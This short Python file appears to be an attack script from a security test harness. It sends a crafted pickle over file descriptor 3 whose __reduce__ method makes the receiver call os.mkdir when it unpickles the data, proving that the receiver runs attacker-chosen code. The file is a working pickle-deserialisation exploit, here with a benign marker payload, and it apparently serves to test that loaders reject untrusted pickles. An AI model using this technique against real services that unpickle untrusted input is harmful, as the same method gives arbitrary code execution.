"""Send a pickle that runs a command where it is loaded."""

# ends: Tampered

import os
import pickle
import struct
import time


class Bomb:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (self.path,)


def attack(world, won):
    text = pickle.dumps(Bomb(f"{world['folder']}/unpickled"))
    os.write(3, struct.pack("<IQ", len(text), 0) + text)
    time.sleep(1000)
